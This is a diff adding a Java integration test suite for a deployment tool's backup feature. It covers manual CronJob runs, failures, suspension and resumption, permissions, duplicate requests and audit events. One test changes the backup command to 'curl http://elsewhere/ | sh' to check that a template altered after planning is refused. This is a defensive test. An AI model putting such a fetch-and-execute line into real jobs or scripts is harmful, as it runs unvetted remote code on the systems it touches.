@@ -1,0 +1,287 @@
+package dev.slipway.backups;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import dev.slipway.backups.BackupActs.Wish;
+import dev.slipway.deployments.DeploymentState;
+import dev.slipway.kernel.DomainFailure;
+import dev.slipway.plans.Plans;
+import dev.slipway.plans.ProposeChange;
+import dev.slipway.policies.spi.ChangeKind;
+import dev.slipway.testing.SlipwayTest;
+import dev.slipway.testing.Visitor;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.UUID;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.test.web.server.LocalServerPort;
+import org.springframework.context.ApplicationContext;
+import org.springframework.jdbc.core.simple.JdbcClient;
+
+/// From a button on the page of a backup to the run that it lists, by a plan like any other.
+@SlipwayTest
+@Tag("slow")
+class BackupActTests {
+
+  private static final String WORKS = "mysqldump --all-databases > /tmp/all.sql";
+  private static final String LACKS_AWS =
+      "mysqldump > /tmp/all.sql && aws s3 cp /tmp/all.sql s3://x/";
+
+  @Autowired ApplicationContext context;
+  @Autowired JdbcClient jdbc;
+  @LocalServerPort int port;
+  private BackupStage stage;
+  private Visitor kofi;
+
+  @BeforeEach
+  void prepare() {
+    stage = new BackupStage(context);
+    stage.database();
+    kofi = Visitor.signedIn(port, "kofi");
+  }
+
+  @AfterEach
+  void close() {
+    stage.close();
+  }
+
+  @Test
+  void aRunMakesOneJobFromTheTemplateAndIsListedWithItsEvidence() {
+    stage.cronJob("Forbid", WORKS);
+    stage.look();
+    assertThat(stage.view().state()).isEqualTo(BackupState.PENDING);
+    assertThat(Visitor.page(kofi.get(stage.view().href())).select("header .actions").text())
+        .contains("Run now", "Suspend");
+
+    var answer = stage.ask(kofi, "backup-run", Map.of("reason", "Before the schema changes"));
+    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(302);
+    var done = stage.ended(BackupStage.deployment(answer));
+    assertThat(done.state()).as(done.why()).isEqualTo(DeploymentState.SUCCEEDED);
+    assertThat(done.why()).contains("Job " + stage.name + "-backup-", "succeeded");
+
+    var job = stage.jobs().getFirst();
+    assertThat(stage.jobs()).hasSize(1);
+    var cron = stage.yard.cluster().read("cronjobs.batch", "default", stage.name + "-backup");
+    assertThat(job.at("/metadata/annotations/cronjob.kubernetes.io~1instantiate").asString())
+        .isEqualTo("manual");
+    assertThat(job.at("/metadata/annotations/note").asString()).isEqualTo("kept");
+    assertThat(job.at("/metadata/annotations/slipway.dev~1deployment").asString())
+        .isEqualTo(done.id().toString());
+    assertThat(job.at("/metadata/labels/of").asString()).isEqualTo("backup");
+    var owner = job.at("/metadata/ownerReferences/0");
+    assertThat(owner.path("uid")).isEqualTo(cron.orElseThrow().at("/metadata/uid"));
+    assertThat(owner.path("controller").asBoolean()).isTrue();
+    assertThat(owner.has("blockOwnerDeletion")).isFalse();
+    assertThat(job.at("/spec/template/spec/containers/0/command"))
+        .isEqualTo(cron.get().at("/spec/jobTemplate/spec/template/spec/containers/0/command"));
+
+    stage.look();
+    assertThat(stage.view().state()).isEqualTo(BackupState.GOOD);
+    assertThat(stage.runs())
+        .singleElement()
+        .satisfies(run -> assertThat(run.detail()).isEqualTo(Fields.BY_A_PLAN));
+    assertThat(acts(java.util.Objects.requireNonNull(done.plan()).value()))
+        .contains("plan.proposed", "plan.started");
+    assertThat(Visitor.page(kofi.get("/deployments/" + done.id())).select("h1, main").text())
+        .contains("Backup of " + stage.name)
+        .doesNotContain("hunter2");
+  }
+
+  @Test
+  void theSameWishSentTwiceMakesOneJob() {
+    stage.cronJob("Allow", WORKS);
+    stage.look();
+    var wish =
+        new Wish(
+            stage.view().id(),
+            ChangeKind.BACKUP_RUN,
+            "Sent twice by a tired proxy",
+            null,
+            Set.of());
+    var acts = stage.yard.bean(BackupActs.class);
+    var seen = acts.preview(wish, stage.yard.owner()).hash();
+    var key = UUID.randomUUID().toString();
+    var first = acts.propose(wish, seen, key, stage.yard.owner());
+    var second = acts.propose(wish, seen, key, stage.yard.owner());
+    assertThat(second.id()).isEqualTo(first.id());
+    stage.ended(java.util.Objects.requireNonNull(first.operation()).value());
+    assertThat(stage.jobs()).hasSize(1);
+  }
+
+  @Test
+  void aRunThatFailsIsTheFailureOfItsDeploymentAndOfTheBackup() {
+    stage.cronJob("Forbid", LACKS_AWS);
+    stage.look();
+    var done =
+        stage.ended(
+            BackupStage.deployment(
+                stage.ask(kofi, "backup-run", Map.of("reason", "Does it work at all?"))));
+    assertThat(done.state()).isEqualTo(DeploymentState.FAILED);
+    assertThat(done.why()).contains("failed (BackoffLimitExceeded)");
+    stage.look();
+    assertThat(stage.view().state()).isEqualTo(BackupState.FAILING);
+  }
+
+  @Test
+  void aRunThatIsUnderWayIsNotJoinedByAnother() {
+    stage.cronJob("Forbid", WORKS);
+    stage.look();
+    var cron = stage.yard.cluster().read("cronjobs.batch", "default", stage.name + "-backup");
+    stage
+        .yard
+        .cluster()
+        .apply(
+            """
+            apiVersion: batch/v1
+            kind: Job
+            metadata:
+              name: by-hand
+              namespace: default
+              ownerReferences: [{apiVersion: batch/v1, kind: CronJob, name: %s-backup, uid: %s, controller: true}]
+            spec: {suspend: true, template: {spec: {restartPolicy: Never, containers: [{name: dump, image: 'mysql:8.0.36'}]}}}
+            """
+                .formatted(stage.name, cron.orElseThrow().at("/metadata/uid").asString()));
+    var page = kofi.get(stage.view().href() + "/change?kind=backup-run");
+    assertThat(Visitor.page(page).select("main").text())
+        .contains("This cannot be planned now", "by-hand is under way", "concurrencyPolicy Forbid");
+  }
+
+  @Test
+  void aTemplateThatChangesAfterThePlanStartsNothing() {
+    stage.cronJob("Forbid", WORKS);
+    stage.look();
+    var plans = stage.yard.bean(Plans.class);
+    var plan = plans.propose(wish(ChangeKind.BACKUP_RUN), stage.yard.owner(), true);
+    stage.cronJob("Forbid", "curl http://elsewhere/ | sh");
+    var operation =
+        plans.start(plan.id(), plan.hash(), UUID.randomUUID().toString(), stage.yard.owner());
+    var done = stage.ended(operation.value());
+    assertThat(done.state()).isEqualTo(DeploymentState.FAILED);
+    assertThat(done.why()).contains("it was planned on base");
+    assertThat(stage.jobs()).isEmpty();
+  }
+
+  @Test
+  void aBackupIsSuspendedKnowinglyAndResumed() {
+    stage.cronJob("Forbid", WORKS);
+    stage.look();
+    var path = stage.view().href() + "/change?kind=backup-suspend";
+    assertThat(Visitor.page(kofi.get(path)).select("main").text())
+        .contains("counts as not protecting from then on", "suspend: true");
+
+    var unread = stage.ask(kofi, "backup-suspend", Map.of("reason", "The disk is being moved"));
+    assertThat(unread.headers().firstValue("Location").orElse("")).contains("/plans/");
+    assertThat(suspended()).isFalse();
+
+    var done =
+        stage.ended(
+            BackupStage.deployment(
+                stage.ask(
+                    kofi,
+                    "backup-suspend",
+                    Map.of("reason", "The disk is being moved", "acknowledged", "caution"))));
+    assertThat(done.state()).as(done.why()).isEqualTo(DeploymentState.SUCCEEDED);
+    assertThat(suspended()).isTrue();
+    stage.look();
+    assertThat(stage.view().state()).isEqualTo(BackupState.PAUSED);
+
+    var back =
+        stage.ended(
+            BackupStage.deployment(
+                stage.ask(kofi, "backup-resume", Map.of("reason", "The disk has been moved"))));
+    assertThat(back.state()).as(back.why()).isEqualTo(DeploymentState.SUCCEEDED);
+    assertThat(suspended()).isFalse();
+  }
+
+  @Test
+  void whoMayNotIsToldWhoMayAndNothingIsPlanned() {
+    stage.cronJob("Forbid", WORKS);
+    stage.look();
+    var vera = Visitor.signedIn(port, "vera");
+    assertThat(Visitor.page(vera.get(stage.view().href())).select("header .actions").text())
+        .contains("You may not. Ask", "Kofi");
+    assertThat(
+            vera.post(
+                    stage.view().href() + "/change",
+                    Map.of("kind", "backup-run", "reason", "Just to try it"))
+                .statusCode())
+        .isEqualTo(403);
+    assertThat(stage.jobs()).isEmpty();
+  }
+
+  @Test
+  void aPlanStandsWhereTheRulesAreStrictestAndNowhereElse() {
+    stage.cronJob("Forbid", WORKS);
+    stage.look();
+    stage.yard.launch("other-" + stage.name, "app:1.0.0");
+    var elsewhere =
+        new ProposeChange(
+            ChangeKind.BACKUP_RUN,
+            "other-" + stage.name,
+            stage.yard.slug(),
+            Map.of(),
+            null,
+            null,
+            null,
+            null,
+            dev.slipway.plans.WantedAutoscaler.NONE,
+            null,
+            null,
+            "By another service's rules",
+            null,
+            false,
+            Set.of(),
+            null,
+            null,
+            new ProposeChange.OfBackup(stage.view().id()));
+    assertThatThrownBy(
+            () -> stage.yard.bean(Plans.class).propose(elsewhere, stage.yard.owner(), true))
+        .isInstanceOf(DomainFailure.class)
+        .hasMessageContaining("stand on " + stage.name);
+  }
+
+  private ProposeChange wish(ChangeKind kind) {
+    return new ProposeChange(
+        kind,
+        stage.name,
+        stage.yard.slug(),
+        Map.of(),
+        null,
+        null,
+        null,
+        null,
+        dev.slipway.plans.WantedAutoscaler.NONE,
+        null,
+        null,
+        "A test of the whole way",
+        null,
+        false,
+        Set.of(),
+        null,
+        null,
+        new ProposeChange.OfBackup(stage.view().id()));
+  }
+
+  private boolean suspended() {
+    return stage
+        .yard
+        .cluster()
+        .read("cronjobs.batch", "default", stage.name + "-backup")
+        .orElseThrow()
+        .at("/spec/suspend")
+        .asBoolean(false);
+  }
+
+  private List<String> acts(UUID plan) {
+    return jdbc.sql("select action from audit.audit_event where subject_id = ?")
+        .param(plan.toString())
+        .query(String.class)
+        .list();
+  }
+}
